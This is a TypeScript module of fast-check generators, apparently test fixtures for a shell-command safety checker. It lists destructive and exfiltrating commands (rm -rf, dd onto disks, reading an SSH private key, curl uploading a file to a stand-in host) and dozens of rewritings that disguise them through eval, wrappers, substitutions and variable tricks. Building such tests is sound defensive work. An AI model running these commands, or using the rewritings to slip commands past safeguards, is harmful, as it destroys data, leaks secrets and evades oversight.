import fc from 'fast-check';

/** Dangerous commands, each as its words and its redirection. */
export const dangers: readonly { readonly words: readonly string[]; readonly to?: string }[] = [
  { words: ['rm', '-rf', 'x'] },
  { words: ['rm', '-r', '/data/me'] },
  { words: ['find', '/', '-delete'] },
  { words: ['git', 'push', '--force'] },
  { words: ['chmod', '-R', '777', '/usr'] },
  { words: ['dd', 'if=x', 'of=/dev/sda'] },
  { words: ['cp', 'x', '/etc/hosts'] },
  { words: ['sed', '-i', 's/a/b/', '/etc/hosts'] },
  { words: ['tee', '/etc/hosts'] },
  { words: ['cat', '/data/me/.ssh/id_rsa'] },
  { words: ['curl', '-T', 'x', 'http://x.example'] },
  { words: ['echo', 'x'], to: '/etc/passwd' },
  { words: ['cat', 'x'], to: '/dev/sda' },
  { words: ['python3', '-c', 'x()'] },
  { words: ['mkfs.ext4', '/dev/sdb'] },
  { words: ['shutdown', 'now'] },
  { words: ['find', '.', '-delete'] },
  { words: ['git', 'reset', '--hard'] },
  { words: ['npm', 'publish'] },
  { words: ['terraform', 'destroy'] },
  { words: ['dropdb', 'x'] },
  { words: ['kill', '-9', '-1'] },
];

/** Returns a script as one single-quoted word. */
export function quoted(text: string): string {
  return `'${text.replaceAll("'", `'\\''`)}'`;
}

/** Spellings of a plain word. */
const spellings: readonly ((word: string) => string)[] = [
  (word) => word,
  quoted,
  (word) => `"${word}"`,
  (word) => `${quoted(word.slice(0, 1))}"${word.slice(1)}"`,
  (word) => (/^[a-z]/.test(word) ? `\\${word}` : word),
  (word) => `${word.slice(0, 1)}''${word.slice(1)}`,
  (word) => `$'${word.replaceAll(/./g, (char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`)}'`,
  (word) => `${word.slice(0, 1)}\\\n${word.slice(1)}`,
];

const spelling = fc.constantFrom(...spellings);

/** A dangerous command, each of its words in some spelling. */
export const danger = fc
  .tuple(fc.constantFrom(...dangers), fc.array(spelling, { minLength: 8, maxLength: 8 }))
  .map(([{ words, to }, spell]) => {
    const spelled = words.map((word, index) => (spell[index] ?? quoted)(word));
    if (to === undefined) return spelled.join(' ');
    return `${spelled.join(' ')} > ${(spell[7] ?? quoted)(to)}`;
  });

/** Rewritings of a script that run it all the same. */
export const rewritings: readonly ((script: string) => string)[] = [
  // Compound commands.
  (script) => `{ ${script}; }`,
  (script) => `(${script})`,
  (script) => `if true; then ${script}; fi`,
  (script) => `if ${script}; then ls; fi`,
  (script) => `while ${script}; do break; done`,
  (script) => `for i in 1; do ${script}; done`,
  (script) => `case x in x) ${script};; esac`,
  (script) => `f() { ${script}; }; f`,
  (script) => `ls && ${script} || true`,
  (script) => `! ${script}`,
  (script) => `${script} & wait`,
  (script) => `coproc { ${script}; }`,
  (script) => `time ${script}`,
  (script) => `cd src; ${script}`,
  // Redirections and pipes.
  (script) => `{ ${script}; } > log 2>&1`,
  (script) => `{ ${script}; } < f`,
  // After a redirection reserved words are names of programs.
  (script) =>
    `2>/dev/null ${/^(?:[{(!]|(?:time|coproc|if|while|for|case|f\(\)) )/.test(script) ? `eval ${quoted(script)}` : script}`,
  (script) => `{ ${script}; } | cat`,
  (script) => `ls | { ${script}; }`,
  (script) => `cat <<EOF\n$(${script})\nEOF`,
  (script) => `cat <<< "$(${script})"`,
  // Substitutions.
  (script) => `echo "$(${script})"`,
  (script) => `echo "\${x:-$(${script})}"`,
  (script) => `x=$(${script})`,
  (script) => `x=([$(${script})]=1)`,
  (script) => `diff <(${script}) f`,
  (script) => `ls > >(${script})`,
  (script) => `echo $(( $(${script}) + 1 ))`,
  (script) => `[[ -n $(${script}) ]]`,
  (script) => `echo "\${x[$(${script})]}"`,
  // Strings that a shell runs.
  (script) => `bash -c ${quoted(script)}`,
  (script) => `sh -ec ${quoted(script)} a b`,
  (script) => `bash --norc -o errexit -c -- ${quoted(script)}`,
  (script) => `eval ${quoted(script)}`,
  (script) => `trap ${quoted(script)} EXIT`,
  (script) => `X=${quoted(script)}; eval "$X"`,
  (script) => `X=${quoted(script)}; bash -c "$X"`,
  (script) => `export X=${quoted(script)}; sh -c 'eval "$X"'`,
  (script) => `alias ls=${quoted(script)}`,
  (script) => `PROMPT_COMMAND=${quoted(script)}`,
  (script) => `echo ${quoted(script)} | bash`,
  (script) => `bash <<< ${quoted(script)}`,
  (script) => `bash <<'END'\n${script}\nEND`,
  (script) => `source <(echo ${quoted(script)})`,
  (script) => `mapfile -C ${quoted(script)} -c 1 a < f`,
  (script) => `a=${quoted(`x[$(${script})]`)}; echo $((a))`,
  (script) => `a=${quoted(`x[$(${script})]`)}; [[ $a -eq 1 ]]`,
  (script) => `printf -v ${quoted(`x[$(${script})]`)} y`,
  // Wrappers.
  (script) => `sudo -nu root bash -c ${quoted(script)}`,
  (script) => `sudo --user=root -- sh -c ${quoted(script)}`,
  (script) => `timeout --signal KILL 5 bash -c ${quoted(script)}`,
  (script) => `env -u A --chdir . B=1 bash -c ${quoted(script)}`,
  (script) => `nice --adjustment 5 sh -c ${quoted(script)}`,
  (script) => `nohup setsid -w bash -c ${quoted(script)} &`,
  (script) => `command -p bash -c ${quoted(script)}`,
  (script) => `exec -a x bash -c ${quoted(script)}`,
  (script) => `ls | xargs -0n 1 sh -c ${quoted(script)}`,
  (script) => `find . -name x -exec sh -c ${quoted(script)} {} \\;`,
  (script) => `ssh -p 22 host ${quoted(script)}`,
  (script) => `docker run --rm alpine sh -c ${quoted(script)}`,
  (script) => `busybox sh -c ${quoted(script)}`,
  (script) => `watch -n 1 ${quoted(script)}`,
  (script) => `parallel ${quoted(`{ ${script}; }; echo`)} ::: a`,
  (script) => `some-wrapper --option value sh -c ${quoted(script)}`,
  (script) => `npx some-runner -c ${quoted(script)}`,
  (script) => `flock -w 5 lock -c ${quoted(script)}`,
  (script) => `su -c ${quoted(script)} me`,
  (script) => `git rebase --exec ${quoted(script)} main`,
  (script) => `git -c alias.x=${quoted(`!${script}`)} x`,
  // Variables that get their values in another way, or after the command that uses them.
  (script) => `x=ls; f() { $x -c ${quoted(script)}; }; eval x=bash; f`,
  (script) => `x=ls; for i in 1 2; do $x -c ${quoted(script)}; . <(echo x=bash); done`,
  (script) => `x=ls; command read x <<< bash; $x -c ${quoted(script)}`,
  (script) => `x=ls; n=x; printf -v $n bash; $x -c ${quoted(script)}`,
  (script) => `x=ls; builtin declare "x=bash"; $x -c ${quoted(script)}`,
  (script) => `x=ls; declare -n r=x; r=bash; $x -c ${quoted(script)}`,
  (script) => `x=ls; local -l x=BASH; $x -c ${quoted(script)}`,
  (script) => `x=ls; env x=bash bash -c ${quoted(`$x -c ${quoted(script)}`)}`,
  (script) => `REPLY=ls; read <<< bash; $REPLY -c ${quoted(script)}`,
  (script) => `ba$!sh -c ${quoted(script)}`,
  (script) => `ba"\${TMPDIR}"sh -c ${quoted(script)}`,
  // Names of the input, and other interpreters of it.
  (script) => `bash //dev/./stdin <<< ${quoted(script)}`,
  (script) => `cd /dev/fd; bash 0 <<< ${quoted(script)}`,
  (script) => `. /proc/$$/fd/3 3<<< ${quoted(script)}`,
  (script) => `sed -f- f <<< ${quoted(`1e ${script}`)}`,
  (script) => `make --file=/dev/stdin <<< ${quoted(`x:;${script}`)}`,
  (script) => `make SHELL=./x X=${quoted(script)}`,
  ...['bash5.2', 'yash', 'dc', 'R --no-save', 'gdb', 'newgrp', 'fakeroot', 'deno run -', 'python3.12-dbg'].map(
    (reader) =>
      (script: string): string =>
        `echo ${quoted(script)} | ${reader}`,
  ),
];

/** Dangerous scripts, rewritten up to `depth` times. */
export function rewrittenDangers(depth: number): fc.Arbitrary<string> {
  return fc
    .tuple(danger, fc.array(fc.constantFrom(...rewritings), { maxLength: depth }))
    .map(([script, steps]) => steps.reduce((text, rewrite) => rewrite(text), script));
}
